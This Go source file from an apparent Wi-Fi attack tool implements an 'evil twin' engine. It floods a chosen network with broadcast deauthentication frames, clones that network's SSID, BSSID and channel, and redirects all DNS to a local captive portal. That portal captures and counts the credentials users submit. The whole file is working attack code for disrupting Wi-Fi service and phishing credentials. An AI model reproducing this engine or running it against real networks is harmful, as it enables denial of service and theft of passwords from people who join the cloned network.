package eviltwin

import (
	"fmt"
	"log"
	"net"
	"sync"
	"sync/atomic"
	"time"

	"github.com/lcalzada-xor/airstrike/internal/adapters/attack"
	"github.com/lcalzada-xor/airstrike/internal/adapters/attack/deauth"
	"github.com/lcalzada-xor/airstrike/internal/core/domain"
	"github.com/lcalzada-xor/airstrike/internal/core/ports"
)

const (
	// DefaultSettleDelay separates the deauth stage from the portal stage.
	DefaultSettleDelay = 2 * time.Second
	// DefaultDeauthInterval is slower than a standalone deauth.
	DefaultDeauthInterval = time.Second
	// retryInterval throttles retries of failed portal bring-up steps.
	retryInterval = time.Second
	// clientPollInterval spaces station counts; the radio may shell out for them.
	clientPollInterval = time.Second
)

// DefaultPortalIP is the address of the local access point.
var DefaultPortalIP = net.IPv4(192, 168, 4, 1)

// Options tune an Engine.
type Options struct {
	SettleDelay    time.Duration
	DeauthInterval time.Duration
	PortalIP       net.IP
	FrameGap       time.Duration
}

// Engine runs the staged evil twin: deauth the target, then clone it and
// serve the captive portal. Stop always restores the identity recorded at Start.
type Engine struct {
	mu       sync.Mutex
	radio    ports.Radio
	sched    ports.ChannelScheduler
	captive  ports.CaptiveService
	sink     ports.RecordPersister
	deauther *deauth.Engine
	opts     Options

	target   *domain.Network
	original domain.ApIdentity
	stage    domain.EvilTwinStage
	running  bool
	pinned   bool
	dnsUp    bool
	httpUp   bool

	started    time.Time
	stageSince time.Time
	lastRetry  time.Time
	lastTick   time.Time
	creds      atomic.Uint32

	clientCount    int
	lastClientPoll time.Time
}

var _ ports.EvilTwinMachine = (*Engine)(nil)

// NewEngine wires the sub-deauther to the same radio. sink may be nil.
func NewEngine(radio ports.Radio, sched ports.ChannelScheduler, captive ports.CaptiveService, sink ports.RecordPersister, opts Options) *Engine {
	if opts.SettleDelay <= 0 {
		opts.SettleDelay = DefaultSettleDelay
	}
	if opts.DeauthInterval <= 0 {
		opts.DeauthInterval = DefaultDeauthInterval
	}
	if opts.PortalIP == nil {
		opts.PortalIP = DefaultPortalIP
	}
	return &Engine{
		radio:   radio,
		sched:   sched,
		captive: captive,
		sink:    sink,
		deauther: deauth.NewEngine(radio, sched, deauth.Options{
			Interval: opts.DeauthInterval,
			FrameGap: opts.FrameGap,
		}),
		opts: opts,
	}
}

func (e *Engine) log(format string, args ...any) {
	log.Printf("[EVILTWIN] "+format, args...)
}

// SetTarget selects the network to clone. It takes effect on the next Start.
func (e *Engine) SetTarget(n domain.Network) error {
	if len(n.BSSID) != 6 {
		return fmt.Errorf("%w: bssid %q", domain.ErrInvalidMAC, n.BSSID)
	}
	if !domain.IsValidSSID(n.SSID) {
		return domain.ErrSSIDTooLong
	}
	if !domain.IsValidChannel(n.Channel) {
		return fmt.Errorf("invalid channel %d", n.Channel)
	}
	n.BSSID = append(net.HardwareAddr(nil), n.BSSID...)
	e.mu.Lock()
	e.target = &n
	e.mu.Unlock()
	return nil
}

// Target returns the configured network, if any.
func (e *Engine) Target() (domain.Network, bool) {
	e.mu.Lock()
	defer e.mu.Unlock()
	if e.target == nil {
		return domain.Network{}, false
	}
	return *e.target, true
}

// ApplySettings takes the deauth stage burst size.
func (e *Engine) ApplySettings(s domain.AttackSettings) {
	e.SetPacketsPerBurst(s.DeauthPacketsPerBurst)
}

// SetPacketsPerBurst forwards to the deauth stage.
func (e *Engine) SetPacketsPerBurst(n int) {
	e.deauther.SetPacketsPerBurst(n)
}

// Start records the current identity and begins the deauth stage.
func (e *Engine) Start(now time.Time) error {
	e.mu.Lock()
	defer e.mu.Unlock()
	if e.running {
		return nil
	}
	if e.target == nil {
		return domain.ErrNoNetwork
	}
	if e.radio == nil {
		return fmt.Errorf("evil twin: %w: no radio", domain.ErrRadio)
	}
	t := *e.target

	e.deauther.ClearTargets()
	if err := e.deauther.AddTarget(domain.Target{BSSID: t.BSSID, Client: domain.BroadcastMAC, Channel: t.Channel}); err != nil {
		return fmt.Errorf("evil twin deauth target: %w", err)
	}
	if err := e.deauther.SetChannel(t.Channel); err != nil {
		return err
	}
	e.original = e.radio.APIdentity().Clone()
	if err := e.deauther.Start(now); err != nil {
		return fmt.Errorf("evil twin deauth stage: %w", err)
	}

	e.creds.Store(0)
	e.running = true
	e.pinned = false
	e.dnsUp, e.httpUp = false, false
	e.started = now
	e.stageSince = now
	e.lastTick = now
	e.clientCount = 0
	e.lastClientPoll = time.Time{}
	e.stage = domain.StageDeauthing
	e.log("Deauthing %s (%s) on channel %d", t.SSID, domain.FormatMAC(t.BSSID), t.Channel)
	return nil
}

// Tick drives the deauth stage until the settle delay elapses, then brings up the portal.
func (e *Engine) Tick(now time.Time) {
	e.mu.Lock()
	defer e.mu.Unlock()
	if !e.running {
		return
	}
	e.lastTick = now

	switch e.stage {
	case domain.StageDeauthing:
		e.deauther.Tick(now)
		if attack.Due(now, e.stageSince, e.opts.SettleDelay) && attack.Due(now, e.lastRetry, retryInterval) {
			e.activatePortal(now)
		}
	case domain.StagePortalActive:
		if (!e.dnsUp || !e.httpUp) && attack.Due(now, e.lastRetry, retryInterval) {
			e.startResponders(now)
		}
		if attack.Due(now, e.lastClientPoll, clientPollInterval) {
			e.pollClients(now)
		}
	}
}

func (e *Engine) pollClients(now time.Time) {
	e.clientCount = e.radio.ConnectedClients()
	e.lastClientPoll = now
}

func (e *Engine) activatePortal(now time.Time) {
	t := *e.target
	clone := domain.ApIdentity{SSID: t.SSID, HWAddr: t.BSSID, Channel: t.Channel}
	if err := e.radio.SetAPIdentity(clone); err != nil {
		e.lastRetry = now
		e.log("Cloning %s failed, still deauthing: %v", t.SSID, err)
		return
	}
	e.deauther.Stop()
	if e.sched != nil {
		if err := e.sched.Pin(t.Channel); err != nil {
			e.log("Pin channel %d failed: %v", t.Channel, err)
		} else {
			e.pinned = true
		}
	}
	e.stage = domain.StagePortalActive
	e.stageSince = now
	e.pollClients(now)
	e.startResponders(now)
	e.log("Portal active as %s", t.SSID)
}

func (e *Engine) startResponders(now time.Time) {
	e.lastRetry = now
	if e.captive == nil {
		return
	}
	if !e.dnsUp {
		if err := e.captive.StartRedirectAllDNS(e.opts.PortalIP); err != nil {
			e.log("DNS responder failed: %v", err)
		} else {
			e.dnsUp = true
		}
	}
	if !e.httpUp {
		routes := portalRoutes(e.target.SSID, e.sink, func() { e.creds.Add(1) })
		if err := e.captive.StartHTTPServer(routes); err != nil {
			e.log("HTTP portal failed: %v", err)
		} else {
			e.httpUp = true
		}
	}
}

// Stop tears down every stage and restores the recorded identity.
func (e *Engine) Stop() {
	e.mu.Lock()
	defer e.mu.Unlock()
	if !e.running {
		return
	}
	e.running = false
	e.deauther.Stop()

	if err := e.radio.SetAPIdentity(e.original); err != nil {
		e.log("Restoring identity %q failed: %v", e.original.SSID, err)
	}

	if e.captive != nil {
		if e.dnsUp {
			if err := e.captive.StopDNS(); err != nil {
				e.log("Stopping DNS failed: %v", err)
			}
		}
		if e.httpUp {
			if err := e.captive.StopHTTPServer(); err != nil {
				e.log("Stopping HTTP failed: %v", err)
			}
		}
	}
	e.dnsUp, e.httpUp = false, false
	if e.pinned && e.sched != nil {
		e.sched.Unpin()
	}
	e.pinned = false
	e.stage = domain.StageIdle
	e.log("Stopped with %d credential(s)", e.creds.Load())
}

func (e *Engine) Running() bool {
	e.mu.Lock()
	defer e.mu.Unlock()
	return e.running
}

// Stage returns the current stage.
func (e *Engine) Stage() domain.EvilTwinStage {
	e.mu.Lock()
	defer e.mu.Unlock()
	return e.stage
}

// Credentials returns submissions captured this session.
func (e *Engine) Credentials() uint32 {
	return e.creds.Load()
}

// clients is the station count from the last poll in Tick.
func (e *Engine) clients() int {
	if e.stage != domain.StagePortalActive {
		return 0
	}
	return e.clientCount
}

func (e *Engine) Stats() domain.AttackStats {
	e.mu.Lock()
	defer e.mu.Unlock()
	var d time.Duration
	if !e.started.IsZero() {
		d = e.lastTick.Sub(e.started)
	}
	return domain.AttackStats{
		PacketsTotal:        e.deauther.PacketsSent(),
		ClientsAffected:     uint32(e.clients()),
		CredentialsCaptured: e.creds.Load(),
		Duration:            d,
	}
}

func (e *Engine) Snapshot() domain.SessionVariant {
	e.mu.Lock()
	defer e.mu.Unlock()
	v := domain.EvilTwinVariant{
		Stage:    e.stage,
		Original: e.original.Clone(),
		Clients:  e.clients(),
	}
	if e.target != nil {
		v.Target = *e.target
	}
	return v
}
